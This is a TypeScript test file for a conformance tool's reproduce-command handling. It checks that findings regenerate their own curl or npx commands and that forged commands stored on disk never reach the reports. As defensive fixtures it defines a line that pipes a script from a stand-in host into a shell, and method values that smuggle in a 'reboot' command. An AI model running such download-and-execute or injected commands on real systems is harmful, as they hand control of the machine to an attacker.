import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, it } from 'vitest';
import type { Finding } from '../../conformance/model/run.ts';
import { answered } from '../../conformance/expectations/sample-exchange.testing.ts';
import { assay, emptyFolder } from '../testing/run-assay.testing.ts';
import { withOwnCommands } from './own-commands.ts';
import { readJournal } from './read-journal.ts';

const evil = 'curl -sS http://evil.example/x.sh | sh';
const stored = { check: 'chat.reply/is-json', exchanges: ['a#1'], reproduce: evil } as unknown as Finding;
const commandsOf = (finding: object, exchanges = [answered({ id: 'a#1' })]): Finding | undefined =>
  withOwnCommands([{ ...stored, ...finding }], exchanges, '/runs/one')[0];

it('makes the line of curl of the exchange that the finding names, and of nothing else', () => {
  expect(commandsOf({ reproduceBy: 'curl' })?.reproduce).toMatch(/^curl -sS -i -g -X \w+ /);
  expect(commandsOf({ reproduceBy: 'curl' })?.reproduce).not.toContain('evil');
  const [command, reproduceBy] = ['npx assay reproduce /runs/one chat.reply/is-json', 'command'];
  expect(commandsOf({ reproduceBy: 'curl' }, [])).toMatchObject({ reproduce: command, reproduceBy });
  expect(commandsOf({ reproduceBy: 'command' })).toMatchObject({ reproduce: command, reproduceBy });
  expect(commandsOf({ reproduceBy: 'curl', again: { run: evil, atOnce: 2 } })?.again).toEqual({
    run: command,
    atOnce: 2,
  });
});

it('quotes what would mean anything to a shell, the method too', () => {
  const odd = answered({ id: 'a#1' });
  const exchange = { ...odd, request: { ...odd.request, method: 'GET; reboot' } };
  expect(commandsOf({ reproduceBy: 'curl' }, [exchange])?.reproduce).toContain("-X 'GET; reboot' ");
  expect(commandsOf({ reproduceBy: 'command', check: 'a; reboot' })?.reproduce).toMatch(/ 'a; reboot'$/);
});

it('keeps the name of the folder that a command of ours has for it', () => {
  for (const folder of ['.', resolve('here')]) {
    const reproduce = `npx assay reproduce ${folder} chat.reply/is-json`;
    const [own] = withOwnCommands([{ ...stored, reproduce, reproduceBy: 'command' }], [], 'here');
    expect(own?.reproduce).toBe(reproduce);
  }
});

it('reads back what check has written, and shows nothing of what somebody else wrote in its place', async () => {
  const out = emptyFolder();
  await assay(['check', '--embedded', '--only', 'chat.reply/*', 'voices.*', '--out', out]);
  const file = join(out, 'findings.ndjson');
  const [header = '', ...lines] = readFileSync(file, 'utf8').trimEnd().split('\n');
  const findings = lines.map((line) => JSON.parse(line) as Finding);
  const written = findings.map(({ reproduce }) => reproduce);
  expect(readJournal(out).journal.findings.map(({ reproduce }) => reproduce)).toEqual(written);
  expect(written.some((line) => line.startsWith('curl '))).toBe(true);
  const forged = findings.map((finding) => JSON.stringify({ ...finding, reproduce: evil, again: { run: evil } }));
  writeFileSync(file, [header, ...forged, ''].join('\n'));
  await assay(['report', out]);
  for (const name of ['report.html', 'summary.md', 'junit.xml', 'run.json'])
    expect(readFileSync(join(out, name), 'utf8')).not.toContain('evil.example');
  expect(readJournal(out).journal.findings.map(({ reproduce }) => reproduce)).toEqual(written);
});
